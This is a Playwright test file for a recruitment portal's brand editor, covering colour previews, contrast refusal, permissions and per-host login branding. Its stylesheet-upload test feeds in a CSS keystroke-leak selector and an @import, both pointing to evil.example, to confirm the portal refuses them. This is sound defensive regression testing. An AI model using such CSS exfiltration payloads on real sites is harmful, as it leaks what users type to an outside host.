import type { Page } from '@playwright/test';
import {
  ACME,
  ACME_JOBS,
  expect,
  expectAccessible,
  GLOBEX,
  portalHeaders,
  sendOperation,
  signIn,
  test,
} from './fixtures.js';

const SETTINGS = `${ACME}${ACME_JOBS}/settings`;
const BRAND = `${ACME}/1/brand`;
const brand = (page: Page) => page.getByRole('region', { name: 'Look and login texts' });
const preview = (page: Page) => page.getByRole('region', { name: 'Preview' });

async function setColours(page: Page, primary: string, darker: string) {
  await brand(page).getByLabel('Primary colour').fill(primary);
  await brand(page).getByLabel('Darker shade (hover)').fill(darker);
}

test.describe('brand editor', () => {
  test('the brand has its own account page, reached from the menu; the site settings no longer hold it', async ({
    page,
  }) => {
    await signIn(page, 'owner@acme.test');
    await page.goto(SETTINGS);
    await expect(page.getByRole('heading', { level: 1, name: 'Site settings' })).toBeVisible();
    await expect(page.getByRole('button', { name: 'Save the brand' })).toHaveCount(0);
    // An old link to the section lands on the page.
    await page.goto(`${SETTINGS}#brand`);
    await expect(page).toHaveURL(BRAND);
    await expect(page.getByRole('heading', { level: 1, name: 'Brand' })).toBeVisible();

    await page.goto(`${ACME}/`);
    const nav = page.getByRole('navigation', { name: 'Main navigation' });
    if (await nav.getByRole('link', { name: 'Brand' }).isHidden())
      await nav.getByRole('button', { name: 'Account' }).click();
    await nav.getByRole('link', { name: 'Brand' }).click();
    await expect(page).toHaveURL(BRAND);
    // Breadcrumbs: Dashboard › Brand.
    const crumbs = page.getByLabel('Breadcrumbs');
    await expect(crumbs.getByText('Brand')).toHaveAttribute('aria-current', 'page');
    await crumbs.getByRole('link', { name: 'Dashboard' }).click();
    await expect(page).toHaveURL(`${ACME}/`);
  });

  test('the preview shows the navigation, buttons, a link and the login card, light and dark', async ({ page }) => {
    await signIn(page, 'owner@acme.test');
    await page.goto(BRAND);
    const picture = preview(page).getByRole('img');
    await expect(picture.getByTestId('brand-preview-nav')).toContainText('Dashboard');
    await expect(picture.getByTestId('brand-preview-buttons')).toContainText('Post a job');
    await expect(picture.getByTestId('brand-preview-buttons')).toContainText('See all jobs');
    await expect(picture.getByTestId('brand-preview-login')).toContainText('Sign in');
    await setColours(page, '#1d4ed8', '#1e3a8a');
    await expect(picture.getByText('Post a job')).toHaveCSS('background-color', 'rgb(29, 78, 216)');
    await expect(picture.getByText('On hover')).toHaveCSS('background-color', 'rgb(30, 58, 138)');
    await expect(picture.getByText('Dashboard')).toHaveCSS('color', 'rgb(29, 78, 216)');
    await expect(picture).toHaveAttribute('data-scheme', 'light');
    await preview(page).getByText('Dark', { exact: true }).click();
    await expect(picture).toHaveAttribute('data-scheme', 'dark');
    // On the dark surface links and the active entry take a lighter shade that reads there.
    await expect(picture.getByText('See all jobs')).not.toHaveCSS('color', 'rgb(29, 78, 216)');
    await expect(picture.getByText('Post a job')).toHaveCSS('background-color', 'rgb(29, 78, 216)');
  });

  for (const width of [1440, 390]) {
    test(`the colour picker leaves the contrast verdict in view (${width} px)`, async ({ page }) => {
      await page.setViewportSize({ width, height: 900 });
      await signIn(page, 'owner@acme.test');
      await page.goto(BRAND);
      const field = brand(page).getByLabel('Primary colour');
      await field.fill('#ffe066');
      await field.click();
      await expect(page.locator('.mantine-ColorInput-dropdown')).toBeVisible();
      const verdict = brand(page).getByText('Too light');
      await expect(verdict).toBeVisible();
      // What is drawn at the verdict's middle is the verdict, not the picker.
      const onTop = await verdict.evaluate((el) => {
        const r = el.getBoundingClientRect();
        const hit = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);
        return !!hit && (el.contains(hit) || hit.contains(el));
      });
      expect(onTop).toBe(true);
    });
  }

  test('the owner changes Acme’s colour and greeting; the login page of its host changes, Globex’s does not', async ({
    page,
    browser,
  }) => {
    await signIn(page, 'owner@acme.test');
    await page.goto(BRAND);
    await expect(preview(page).getByRole('img')).toBeVisible();

    // A colour white text cannot be read on is refused before it is sent, with the reason.
    await setColours(page, '#ffe066', '#08533b');
    await expect(brand(page).getByText('Too light')).toBeVisible();
    await brand(page).getByRole('button', { name: 'Save the brand' }).click();
    await expect(
      brand(page).getByText('This colour is too light: white text on it must reach a contrast of 4.5:1.'),
    ).toBeVisible();

    await setColours(page, '#1d4ed8', '#1e3a8a');
    await brand(page).getByLabel('Greeting (English)').fill('Recruit with Acme');
    await brand(page).getByRole('button', { name: 'Save the brand' }).click();
    await expect(page.getByText('Brand saved. The login page shows it now.')).toBeVisible();
    // The open app takes the new colour at once (read at rest, not under the pointer's hover).
    await page.mouse.move(0, 0);
    await expect(page.getByRole('button', { name: 'Save the brand' })).toHaveCSS(
      'background-color',
      'rgb(29, 78, 216)',
    );

    const visitor = await browser.newContext();
    const login = await visitor.newPage();
    await login.goto(`${ACME}/login`);
    await expect(login.getByRole('heading', { level: 1, name: 'Recruit with Acme' })).toBeVisible();
    await expect(login.getByRole('button', { name: 'Sign in', exact: true })).toHaveCSS(
      'background-color',
      'rgb(29, 78, 216)',
    );
    await login.goto(`${GLOBEX}/login`);
    await expect(login.getByRole('heading', { level: 1, name: 'Globex Recruitment portal' })).toBeVisible();
    await expect(login.getByRole('button', { name: 'Sign in', exact: true })).not.toHaveCSS(
      'background-color',
      'rgb(29, 78, 216)',
    );
    await visitor.close();

    // Back to Acme's green for the specs that follow.
    await setColours(page, '#0b6e4f', '#08533b');
    await brand(page).getByLabel('Greeting (English)').fill('Welcome to Acme Talent');
    await brand(page).getByRole('button', { name: 'Save the brand' }).click();
    await expect(page.getByText('Brand saved. The login page shows it now.').first()).toBeVisible();
  });

  test('site staff do not see the brand editor', async ({ page }) => {
    await signIn(page, 'manager@acme.test');
    await page.goto(SETTINGS);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(page.getByRole('link', { name: 'Brand', exact: true })).toHaveCount(0);
    await page.goto(BRAND);
    await expect(page.getByText(/permission to access this page/)).toBeVisible();
  });
});

// SECURITY 22: the brand's stylesheet is a file uploaded to the portal, checked as CSS and served
// by it; there is no address to type. Globex's brand, so Acme's stays as the other specs expect.
test.describe('brand stylesheet', () => {
  const GLOBEX_BRAND = `${GLOBEX}/2/brand`;
  const dropzone = (page: Page) => page.locator('[aria-label="Drop a CSS file here or click to choose it"]');
  const choose = (page: Page, name: string, css: string) =>
    dropzone(page)
      .locator('input[type="file"]')
      .setInputFiles({ name, mimeType: 'text/css', buffer: Buffer.from(css) });
  const brandCheck = (page: Page) =>
    page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--e2e-brand-check').trim());

  test('the owner uploads a stylesheet; one that loads from elsewhere is refused; the host applies it', async ({
    page,
    browser,
  }) => {
    const token = await signIn(page, 'owner@globex.test');
    await page.goto(GLOBEX_BRAND);
    await expect(preview(page).getByRole('img')).toBeVisible();
    await expect(brand(page).getByText('CSS, up to 0.25 MB.', { exact: false })).toBeVisible();

    // The keystroke leak of the issue: refused with the reason, nothing changes.
    await choose(page, 'leak.css', 'input[value^="a"] { background: url(https://evil.example/?k=a); }');
    await expect(
      brand(page).getByText(
        'A stylesheet may only use files of this portal; addresses of other sites are not allowed, in url() or in any text.',
      ),
    ).toBeVisible();
    await choose(page, 'import.css', '@import url("https://evil.example/x.css");');
    await expect(brand(page).getByText('@import is not allowed: put every rule in this one file.')).toBeVisible();

    await choose(page, 'globex.css', ':root { --e2e-brand-check: applied; }\nh1 { text-decoration: underline; }\n');
    await expect(brand(page).getByText('globex.css uploaded; save the brand to use it.')).toBeVisible();
    await expect(brand(page).getByLabel('First lines of the stylesheet')).toContainText('--e2e-brand-check');
    await expectAccessible(page, 'brand editor with a stylesheet');
    await brand(page).getByRole('button', { name: 'Save the brand' }).click();
    await expect(page.getByText('Brand saved. The login page shows it now.')).toBeVisible();

    // The open app loads it at once, from the portal, versioned.
    await expect
      .poll(() => page.locator('#brand-stylesheet').getAttribute('href'))
      .toMatch(/^\/portal\/uploads\/brand-stylesheets\/[a-f0-9]{32}\.css\?v=\d+$/);
    await expect.poll(() => brandCheck(page)).toBe('applied');

    // A visitor of the host gets it on the login page; Acme's host does not.
    const visitor = await browser.newContext();
    const login = await visitor.newPage();
    await login.goto(`${GLOBEX}/login`);
    await expect(login.getByRole('heading', { level: 1 })).toHaveCSS('text-decoration-line', 'underline');
    expect(await brandCheck(login)).toBe('applied');
    await login.goto(`${ACME}/login`);
    await expect(login.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await brandCheck(login)).toBe('');
    await visitor.close();

    // Removing it takes it off the open app once saved.
    await brand(page).getByRole('button', { name: 'Remove the stylesheet' }).click();
    await expect(brand(page).getByText('No stylesheet: the portal’s own look.')).toBeVisible();
    await brand(page).getByRole('button', { name: 'Save the brand' }).click();
    await expect(page.getByText('Brand saved. The login page shows it now.').first()).toBeVisible();
    await expect(page.locator('#brand-stylesheet')).toHaveCount(0);
    expect(await brandCheck(page)).toBe('');

    // Back to Globex's platform stylesheet for the specs that follow (the editor offers uploads only).
    // On Globex's own host, as the brand page itself asks.
    const globex = { headers: portalHeaders(token, { accountId: 2 }), origin: GLOBEX };
    const current = (await (await sendOperation(page.request, 'brandSettings', {}, globex)).json()).data;
    const { name: _n, domains: _d, updated_at: _u, ...body } = current;
    const restored = await sendOperation(
      page.request,
      'saveBrand',
      { body: { ...body, stylesheet_path: '/brands/globex.css' } },
      globex,
    );
    expect(restored.status()).toBe(200);
  });
});
